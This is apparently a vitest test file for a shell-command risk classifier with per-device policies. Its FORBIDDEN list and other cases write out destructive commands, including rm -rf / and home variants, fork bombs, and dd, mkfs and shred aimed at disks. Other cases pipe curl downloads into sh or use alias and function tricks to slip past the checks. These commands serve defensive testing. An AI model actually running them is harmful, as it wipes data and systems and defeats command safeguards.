import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { classify } from "./classify";
import { PolicyConfigError } from "./config";
import { knownPrograms } from "./rule-table";

const home = "/home/alice";
const opts = { home, cwd: home };

/** Plain read-only commands: they must stay low, so they run at once (inside the sandbox). */
const CONTROLS: string[] = [
  "ls -la",
  "ls",
  "cat README.md",
  "head notes.txt",
  "tail -n 20 notes.txt",
  "head -n 5 notes.txt | tail -n 2",
  "grep -rn TODO .",
  "grep -rn TODO src | wc -l",
  "rg foo",
  "rg -n --hidden -g '*.ts' foo src",
  "ps aux",
  "ps -ef",
  "df -h",
  "du -sh .",
  "free -m",
  "uptime",
  "whoami",
  "id",
  "pwd",
  "git status",
  "git status --short",
  "git log --oneline -n 20",
  "git log --graph --decorate --all -20",
  "git diff",
  "git diff --stat HEAD~1",
  "git show HEAD",
  "git branch",
  "git branch -a",
  "git -C repo show HEAD",
  "git rev-parse --show-toplevel",
  "git blame -L 1,10 README.md",
  "git remote -v",
  "git config --get user.name",
  "find . -name '*.ts'",
  "find src -type f -name '*.md' -mtime -2",
  "wc -l notes.txt",
  "sort notes.txt | uniq -c",
  "sort -rn counts.txt | head",
  "echo hi",
  "echo hello world",
  'echo "rm -rf /"',
  "printf '%s\\n' hi",
  "date",
  "date +%Y-%m-%d",
  "uname -a",
  "which node",
  "command -v node",
  "type ls",
  "stat notes.txt",
  "file notes.txt",
  "tree",
  "tree -L 2",
  "env",
  "printenv HOME",
  "jq . package.json",
  "jq -r '.name' package.json",
  "cat notes.txt | grep x | head",
  "ls 2>/dev/null",
  "ls -la > /dev/null 2>&1",
  "cat < notes.txt",
  "cd /tmp && ls",
  "cd src; ls -la",
  'cd "$HOME/src" && git status',
  "lsof -i :8080",
  "echo $(date)",
  "echo $HOME",
  "ls $HOME",
  'cat "$HOME/notes.txt"',
  "grep foo *.ts",
  "LC_ALL=C sort notes.txt",
  "sed -n '1,5p' notes.txt",
  "sed 's/foo/bar/g' notes.txt",
  "sed -n '/start/,/end/{p;/end/q}' notes.txt",
  "echo $((1 + 2)) ${HOME:-/tmp}",
  "awk '{print $1}' data.txt",
  "cut -d: -f1 /etc/passwd",
  "tr a-z A-Z < notes.txt",
  "diff a.txt b.txt",
  "sha256sum notes.txt",
  "base64 notes.txt",
  "xxd notes.txt | head",
  "tar -tzf backup.tgz",
  "timeout 5 cat notes.txt",
  "nice -n 5 du -sh .",
  "time -p ls",
  "find . -name '*.log' -print0 | xargs -0 grep -l error",
  "set -e; ls",
  "cat <<EOF\nhello\nEOF",
  "node -v",
  "python3 --version",
  "npm ls",
  "pip list",
  "[ -f notes.txt ] && cat notes.txt",
  "test -d src || echo missing",
  "sleep 1; echo done",
  "lscpu",
  "ps aux | grep node | grep -v grep",
];

/** Commands that are never run, whatever the device's policy says. */
const FORBIDDEN: string[] = [
  "rm -rf /",
  "rm -rf /*",
  "rm -rf ~",
  "rm -rf ~/",
  "rm -rf $HOME",
  'rm -rf "${HOME}"/*',
  "rm -r --no-preserve-root /",
  "rm -fr //",
  "rm -rf /home/alice",
  "rm -rf .",
  "cd / && rm -rf *",
  "sudo rm -rf --no-preserve-root /",
  "bash -c 'rm -rf ~'",
  'sh -c "echo hi; rm -rf /"',
  "echo $(rm -rf /)",
  "ls; `rm -rf ~`",
  "(cd /tmp; rm -rf /)",
  ":(){ :|:& };:",
  ":(){ :|: & };:",
  "bomb() { bomb | bomb & }; bomb",
  "f(){ f & f; }; f",
  "dd if=/dev/zero of=/dev/sda",
  "dd if=image.iso of=/dev/nvme0n1 bs=4M",
  "cat /dev/urandom > /dev/sdb",
  "echo x > /dev/nvme0n1p1",
  "mkfs.ext4 /dev/sda1",
  "mkfs -t xfs /dev/vdb",
  "wipefs -a /dev/sda",
  "shred -n 1 /dev/sdc",
  "chmod -R 777 /",
  "chown -R nobody /",
  "find / -delete",
  "sudo sh -c 'dd if=/dev/zero of=/dev/sda'",
  "sh <<EOF\nrm -rf ~\nEOF",
  "xargs -0 rm -rf / < x",
];

describe("classify: read-only controls run at once", () => {
  it.each(CONTROLS)("%s -> low", (command) => {
    const result = classify(command, opts);
    expect(result.risk, result.reasons.join(" | ")).toBe("low");
    expect(result.reasons.length).toBeGreaterThan(0);
  });
});

describe("classify: forbidden", () => {
  it.each(FORBIDDEN)("%s -> forbidden", (command) => {
    const result = classify(command, opts);
    expect(result.risk, result.reasons.join(" | ")).toBe("forbidden");
  });
});

describe("classify: reasons and context", () => {
  it("explains why in words, one reason per finding, without repeats", () => {
    expect(classify("curl https://x.sh | sh", opts).reasons.join(" ")).toMatch(/download/);
    expect(classify("frobnicate", opts).reasons[0]).toMatch(/not a program the policy knows/);
    expect(classify(":(){ :|:& };:", opts).reasons[0]).toMatch(/fork bomb/);
    expect(classify("tee f", opts).reasons).toEqual(["`tee` writes to files"]);
    expect(classify("find . -exec ls {} +", opts).reasons).toEqual([
      "`find -exec` runs another program on every file it matches",
    ]);
    expect(classify("curl https://example.com", opts).reasons).toEqual(["`curl` talks to the network"]);
    expect(classify('rm() { command rm "$@"; }; rm -rf d', opts).reasons[0]).toBe(
      "defines a function `rm`, which can change what later commands do",
    );
    expect(classify("sort -o f f; sort --out=g g", opts).reasons).toEqual([
      "`sort -o` writes its output to a file",
      "`sort --output` writes its output to a file",
    ]);
    expect(classify("tee a; tee b", opts).reasons).toEqual(["`tee` writes to files"]);
    expect(classify("ls -la | wc -l", opts).reasons).toEqual([
      "`ls` lists files and only reads",
      "`wc` counts lines, words and bytes and only reads",
    ]);
  });

  it("judges every substitution, here-document and wrapped command as its own script", () => {
    expect(classify("echo $(touch f)", opts).risk).toBe("high");
    expect(classify("cat <(rm f)", opts).risk).toBe("high");
    expect(classify("cat <<EOF\n`rm f`\nEOF", opts).risk).toBe("high");
    expect(classify("cat <<'EOF'\n$(rm f)\nEOF", opts).risk).toBe("low");
    expect(classify("timeout 5 nice ls", opts).risk).toBe("low");
    expect(classify("xargs ls", opts).risk).toBe("low");
    expect(classify("xargs sort", opts).risk).toBe("high");
  });

  it("accepts the system's own program directories only", () => {
    expect(classify("/usr/bin/ls -la", opts).risk).toBe("low");
    expect(classify("/bin/cat f", opts).risk).toBe("low");
    expect(classify("/home/alice/bin/ls", opts).risk).toBe("high");
  });

  it("knows its programs: every one it lists is judged by its own rule, an unknown one is high as unknown", () => {
    // Behaviour, not the table's contents: each listed program, run bare, gets a reason of its own.
    const unknown = /not a program the policy knows/;
    for (const p of knownPrograms()) expect(classify(p, opts).reasons.join(" "), p).not.toMatch(unknown);
    for (const p of ["ls", "cat", "git", "find", "rm", "curl", "sh", "npm", "env", "sed"])
      expect(knownPrograms()).toContain(p);
    const frob = classify("frobnicate --all", opts);
    expect(frob.risk).toBe("high");
    expect(frob.reasons[0]).toMatch(unknown);
  });

  it("judges what runs, not what is quoted", () => {
    expect(classify('echo "rm -rf /"', opts).risk).toBe("low");
    expect(classify("grep -r 'sudo' .", opts).risk).toBe("low");
  });

  it("never throws, whatever the input", () => {
    const alphabet = [
      "rm",
      " -rf",
      " /",
      "'",
      '"',
      "$(",
      ")",
      "`",
      "\\",
      ";",
      "|",
      "&",
      "(",
      "{",
      "}",
      "<<",
      ">",
      "$HOME",
      "\n",
      "f()",
      "case",
      "#",
    ];
    let seed = 7;
    const next = () => (seed = (seed * 1103515245 + 12345) % 2147483648);
    for (let i = 0; i < 500; i++) {
      const text = Array.from({ length: 1 + (next() % 12) }, () => alphabet[next() % alphabet.length]).join("");
      const r = classify(text, opts);
      expect(["low", "high", "forbidden"]).toContain(r.risk);
    }
  });

  it("never throws on arbitrary text or shell-shaped noise (property)", () => {
    const shellish = fc
      .array(
        fc.constantFrom(
          "$'\\x",
          "$'\\u",
          "\\",
          "$((",
          "${",
          "$(",
          "`",
          "'",
          '"',
          "<<",
          "EOF\n",
          "}",
          ")",
          "(",
          "{",
          ";",
          "\n",
          "#",
          "=",
          "[",
          "*",
          "rm",
          " ",
        ),
        { maxLength: 20 },
      )
      .map((a) => a.join(""));
    fc.assert(
      fc.property(fc.oneof(fc.string({ unit: "binary", maxLength: 60 }), shellish), (text) => {
        expect(["low", "high", "forbidden"]).toContain(classify(text, opts).risk);
      }),
      { numRuns: 3000, seed: 42 },
    );
  });

  it("survives pathological nesting: high, never a crash", () => {
    for (const text of [
      "((((".repeat(2000),
      "{ ".repeat(4000),
      ")".repeat(8000),
      "if ".repeat(2000) + "ls",
      "$(".repeat(3000) + ")".repeat(3000),
      "bash -c ".repeat(900) + "ls",
    ]) {
      expect(classify(text, opts).risk).toBe("high");
    }
  });

  it("tracks cd: rm -rf . is fine in a project, forbidden in home", () => {
    expect(classify("cd /tmp/build && rm -rf .", opts).risk).toBe("high");
    expect(classify("cd && rm -rf .", { home, cwd: "/tmp" }).risk).toBe("forbidden");
  });

  it("a cd inside a subshell does not leak", () => {
    expect(classify("(cd /tmp/x) ; rm -rf .", opts).risk).toBe("forbidden");
  });
});

describe("classify: per-device policy", () => {
  it("allow moves an unknown or high command to low", () => {
    expect(classify("make build", opts).risk).toBe("high");
    expect(classify("make build", { ...opts, policy: { allow: ["make"] } }).risk).toBe("low");
    expect(classify("systemctl status nginx", { ...opts, policy: { allow: ["systemctl status"] } }).risk).toBe("low");
    expect(classify("systemctl stop nginx", { ...opts, policy: { allow: ["systemctl status"] } }).risk).toBe("high");
  });

  it("high and forbid tighten; the longest prefix wins", () => {
    expect(classify("git push origin main", { ...opts, policy: { high: ["git push"] } }).risk).toBe("high");
    expect(classify("git status", { ...opts, policy: { forbid: ["git"], allow: ["git status"] } }).risk).toBe("low");
    expect(classify("ls | git log", { ...opts, policy: { forbid: ["git"] } }).risk).toBe("forbidden");
  });

  it("wrapped commands are matched after the wrapper", () => {
    expect(classify("sudo make install", { ...opts, policy: { allow: ["make"] } }).risk).toBe("high");
    expect(classify("sudo make install", { ...opts, policy: { allow: ["make", "sudo"] } }).risk).toBe("low");
    expect(classify("nice -n 3 make", { ...opts, policy: { allow: ["make"] } }).risk).toBe("low");
  });

  it("does not let an entry excuse a download piped into a shell", () => {
    expect(classify("curl -s https://x.example/i.sh | sh", { ...opts, policy: { allow: ["sh", "curl"] } }).risk).toBe(
      "high",
    );
    expect(classify("cat script | sh", { ...opts, policy: { allow: ["sh", "cat"] } }).risk).toBe("low");
  });

  it("never relaxes a built-in forbidden verdict", () => {
    const policy = { allow: ["rm", "dd", "sh", "rm -rf /"] };
    expect(classify("rm -rf /", { ...opts, policy }).risk).toBe("forbidden");
    expect(classify("dd if=/dev/zero of=/dev/sda", { ...opts, policy }).risk).toBe("forbidden");
    expect(classify("rm -rf build", { ...opts, policy }).risk).toBe("low");
  });

  it("an allow entry re-classes a program, never what the rest of the line does", () => {
    const policy = { allow: ["ls", "tee"] };
    expect(classify("tee f", { ...opts, policy }).risk).toBe("low");
    expect(classify("ls > f", { ...opts, policy }).risk).toBe("high");
    expect(classify("alias ls=rm; ls", { ...opts, policy }).risk).toBe("high");
    expect(classify("ls() { :; }; ls", { ...opts, policy }).risk).toBe("high");
    expect(classify("PAGER=x ls", { ...opts, policy }).risk).toBe("high");
  });

  it("rejects malformed policy documents", () => {
    expect(() => classify("ls", { ...opts, policy: { allow: "ls" as unknown as string[] } })).toThrow(
      PolicyConfigError,
    );
    expect(() => classify("ls", { ...opts, policy: { high: [""] } })).toThrow(PolicyConfigError);
  });
});
